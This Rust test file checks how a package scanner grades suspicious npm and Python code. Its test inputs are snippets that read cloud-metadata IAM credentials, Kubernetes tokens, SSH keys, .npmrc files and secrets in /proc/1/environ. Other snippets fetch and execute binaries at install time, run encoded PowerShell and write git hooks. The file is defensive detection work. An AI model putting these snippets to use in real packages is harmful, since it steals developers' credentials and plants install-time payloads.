//! One deed in two circumstances: what an honest package does for a reason weighs less than the same without it.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use mcpscan::model::{ArtifactKind, ScanReport, Severity};
use mcpscan::signatures::Signatures;

use crate::judged::{judge, pack, package_of};

/// How bad the worst finding of a rule is.
fn worst(report: &ScanReport, rule: &str) -> Option<Severity> {
    report.findings.iter().filter(|finding| finding.rule == rule).map(|finding| finding.severity).max()
}

fn of_code(extension: &str, code: &str, rule: &str) -> Option<Severity> {
    worst(&judge(package_of(extension, code), &Signatures::builtin()), rule)
}

/// A package of npm, by its manifest and its other files.
fn of_files(manifest: &str, files: &[(&str, &str)], rule: &str) -> Option<Severity> {
    let manifest = ("package.json", manifest);
    let all = std::iter::once(&manifest).chain(files);
    let all = all.map(|(path, content)| ((*path).to_owned(), content.as_bytes().to_vec())).collect();
    worst(&judge(pack(ArtifactKind::NpmTarball, &all), &Signatures::builtin()), rule)
}

const AT_INSTALL: &str = r#"{ "name": "notes", "version": "1.0.0", "scripts": { "postinstall": "node install.js" } }"#;

#[test]
fn a_channel_that_its_user_chooses_weighs_less_than_one_that_stands_in_the_code() {
    let script = |token: &str| format!("exports.tell = (text) => fetch(`https://api.telegram.org/bot{token}/sendMessage?text=${{text}}`);");
    let python = |token: &str| {
        format!(
            "import os\nimport requests\n\ndef tell(text):\n    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', json=text)\n"
        )
    };
    let written = "123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    assert_eq!(of_code("js", &script("${process.env.BOT_TOKEN}"), "undeclared-host"), Some(Severity::Medium));
    assert_eq!(of_code("js", &script(written), "undeclared-host"), Some(Severity::High));
    assert_eq!(of_code("py", &python("{os.environ[\"BOT_TOKEN\"]}"), "undeclared-host"), Some(Severity::Medium));
    assert_eq!(of_code("py", &python(written), "undeclared-host"), Some(Severity::High));
}

#[test]
fn a_chosen_channel_does_not_hide_one_that_stands_in_the_code() {
    let code = "exports.tell = (text) => fetch(`https://api.telegram.org/bot${process.env.BOT_TOKEN}/sendMessage?text=${text}`);\n\
                exports.more = (text) => fetch('https://api.telegram.org/bot123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage');";
    assert_eq!(of_code("js", code, "undeclared-host"), Some(Severity::High));
}

#[test]
fn an_installers_address_that_a_setting_moves_weighs_less_than_a_fixed_one() {
    let install = |address: &str| of_files(AT_INSTALL, &[("install.js", &format!("fetch({address} + '/tool.zip');"))], "undeclared-host");
    assert_eq!(install("(process.env.NOTES_MIRROR || 'https://downloads.acme-cdn.example')"), Some(Severity::Medium));
    assert_eq!(install("'https://downloads.acme-cdn.example'"), Some(Severity::High));
}

#[test]
fn a_registry_gives_an_installer_what_the_package_depends_on() {
    let manifest = |dependency: &str| {
        format!(
            r#"{{ "name": "notes", "version": "1.0.0", "scripts": {{ "postinstall": "node install.js" }}, "optionalDependencies": {{ "{dependency}": "1.0.0" }} }}"#
        )
    };
    let code = format!(
        "const fs = require('fs');\nconst {{ execFileSync }} = require('child_process');\n\
         fetch('https://registry.{}js.org/@notes/linux/-/linux-1.0.0.tgz').then(async (answer) => {{\n\
         fs.writeFileSync('/opt/notes/tool', Buffer.from(await answer.arrayBuffer()));\nexecFileSync('/opt/notes/tool');\n}});\n",
        "npm"
    );
    let run = |dependency: &str| of_files(&manifest(dependency), &[("install.js", &code)], "download-and-run");
    assert_eq!(run("@notes/linux"), Some(Severity::Medium));
    assert_eq!(run("@other/linux"), Some(Severity::Critical));
}

#[test]
fn a_cloud_may_be_asked_what_machine_this_is() {
    let script =
        |path: &str| format!("const http = require('http');\nexports.place = () => http.get('http://169.254.169.254/latest/{path}');");
    let python = |path: &str| format!("import requests\n\ndef place():\n    return requests.get('http://169.254.169.254/latest/{path}')\n");
    assert_eq!(of_code("js", &script("dynamic/instance-identity/document"), "undeclared-host"), Some(Severity::Medium));
    assert_eq!(of_code("js", &script("meta-data/iam/security-credentials/role"), "undeclared-host"), Some(Severity::Critical));
    assert_eq!(of_code("py", &python("dynamic/instance-identity/document"), "undeclared-host"), Some(Severity::Medium));
    assert_eq!(of_code("py", &python("meta-data/iam/security-credentials/role"), "undeclared-host"), Some(Severity::Critical));
}

#[test]
fn a_containers_token_is_read_for_the_cluster_that_gave_it() {
    let code = |host: &str| {
        format!(
            "const fs = require('fs');\nexports.pods = () => {{\n\
             const token = fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');\n\
             return fetch('https://{host}/api/v1/pods', {{ headers: {{ authorization: `Bearer ${{token}}` }} }});\n}};"
        )
    };
    assert_eq!(of_code("js", &code("kubernetes.default.svc"), "credential-access"), Some(Severity::Low));
    assert_eq!(of_code("js", &code("pods.acme.example"), "credential-access"), Some(Severity::Critical));
}

#[test]
fn a_key_is_read_for_the_library_that_logs_in_with_it() {
    let code = "const fs = require('fs');\nconst os = require('os');\nconst { Client } = require('ssh2');\n\
                exports.open = (host) => new Client().connect({ host, privateKey: fs.readFileSync(os.homedir() + '/.ssh/id_rsa') });";
    let with = |dependencies: &str| {
        let manifest = format!(r#"{{ "name": "notes", "version": "1.0.0", "main": "index.js", "dependencies": {{ {dependencies} }} }}"#);
        of_files(&manifest, &[("index.js", code)], "credential-access")
    };
    assert_eq!(with(r#""ssh2": "^1.16.0""#), Some(Severity::Medium));
    assert_eq!(with(r#""left": "^1.0.0""#), Some(Severity::Critical));
}

#[test]
fn a_projects_settings_are_not_those_of_its_user() {
    let code = |folder: &str| {
        format!("const fs = require('fs');\nconst os = require('os');\nexports.read = (root) => fs.readFileSync({folder} + '/.npmrc');")
    };
    assert_eq!(of_code("js", &code("root"), "credential-access"), Some(Severity::Medium));
    assert_eq!(of_code("js", &code("os.homedir()"), "credential-access"), Some(Severity::High));
}

#[test]
fn what_a_helper_is_given_later_is_not_read_at_installation() {
    let files = |install: &'static str| {
        [
            ("install.js", install),
            ("files.js", "const fs = require('fs');\nexports.read = (path) => fs.readFileSync(path, 'utf8');"),
            (
                "keys.js",
                "const os = require('os');\nconst { read } = require('./files');\nexports.key = () => read(os.homedir() + '/.ssh/id_rsa');",
            ),
            ("index.js", "exports.key = require('./keys').key;"),
        ]
    };
    let manifest = r#"{ "name": "notes", "version": "1.0.0", "main": "index.js", "scripts": { "postinstall": "node install.js" } }"#;
    let told = |install| {
        let all = std::iter::once(("package.json", manifest)).chain(files(install));
        let all = all.map(|(path, content)| (path.to_owned(), content.as_bytes().to_vec())).collect();
        let report = judge(pack(ArtifactKind::NpmTarball, &all), &Signatures::builtin());
        let found = report.findings.iter().find(|finding| finding.rule == "credential-access").unwrap();
        (found.location.path.as_str().to_owned(), found.message.contains("when it is installed"))
    };
    assert_eq!(told("require('./files').read('notes.json');"), ("keys.js".to_owned(), false));
    assert_eq!(told("require('./keys').key();"), ("files.js".to_owned(), true));
}

#[test]
fn one_setting_of_another_program_is_not_all_of_its_environment() {
    let script = |pattern: &str| {
        format!(
            "const {{ execSync }} = require('child_process');\n\
             exports.display = () => execSync(\"cat /proc/1/environ | tr '\\\\0' '\\\\n' | grep '{pattern}'\");"
        )
    };
    assert_eq!(of_code("js", &script("^DISPLAY="), "credential-access"), Some(Severity::Low));
    assert_eq!(of_code("js", &script("KEY"), "credential-access"), Some(Severity::Medium));
    assert_eq!(of_code("js", &script("^AWS_SECRET_ACCESS_KEY="), "credential-access"), Some(Severity::Medium));
}

#[test]
fn what_the_file_encodes_itself_is_no_secret() {
    let plain = "Add-Type -AssemblyName System.IO.Compression.FileSystem; Write-Output ready";
    let encoded = "QWRkLVR5cGUgLUFzc2VtYmx5TmFtZSBTeXN0ZW0uSU8uQ29tcHJlc3Npb24uRmlsZVN5c3RlbTsgV3JpdGUtT3V0cHV0IHJlYWR5";
    let script = |value: &str| {
        format!(
            "const {{ execFileSync }} = require('child_process');\nconst text = {value};\nexecFileSync('powershell', ['-EncodedCommand', text]);"
        )
    };
    assert_eq!(of_code("js", &script(&format!("Buffer.from('{plain}').toString('base64')")), "shell-command"), None);
    assert!(of_code("js", &script(&format!("'{encoded}'")), "shell-command") >= Some(Severity::High));
}

#[test]
fn a_tool_named_for_hooks_writes_them_where_it_is_started() {
    let manifest = |name: &str| format!(r#"{{ "name": "{name}", "version": "1.0.0", "bin": "cli.js" }}"#);
    let code = "#!/usr/bin/env node\nrequire('fs').writeFileSync('.husky/pre-commit', 'npm test\\n');";
    assert_eq!(of_files(&manifest("acme-hooks"), &[("cli.js", code)], "persistence"), Some(Severity::Medium));
    assert_eq!(of_files(&manifest("acme-notes"), &[("cli.js", code)], "persistence"), Some(Severity::High));
    let at_install = r#"{ "name": "acme-hooks", "version": "1.0.0", "scripts": { "postinstall": "node cli.js" } }"#;
    assert_eq!(of_files(at_install, &[("cli.js", code)], "persistence"), Some(Severity::High));
}

#[test]
fn programs_that_an_installer_only_copies_are_one_thing() {
    let install = |deed: &str| {
        let manifest = (("package.json").to_owned(), AT_INSTALL.as_bytes().to_vec());
        let code = format!("const fs = require('fs');\nconst {{ execFileSync }} = require('child_process');\n{deed}");
        let binary = |path: &str| (path.to_owned(), b"\x7fELF\x02\x01\x01\x00".iter().copied().chain([0; 64]).collect::<Vec<u8>>());
        let files = vec![manifest, ("install.js".to_owned(), code.into_bytes()), binary("linux/notes.node"), binary("arm/notes.node")];
        let report = judge(pack(ArtifactKind::NpmTarball, &files), &Signatures::builtin());
        report.findings.iter().filter(|finding| finding.rule == "opaque-code").map(|finding| finding.severity).collect::<Vec<_>>()
    };
    assert_eq!(install("fs.copyFileSync(__dirname + `/${process.arch}/notes.node`, 'build/notes.node');"), [Severity::Medium]);
    assert!(install("execFileSync(__dirname + '/linux/notes.node');").contains(&Severity::High));
}
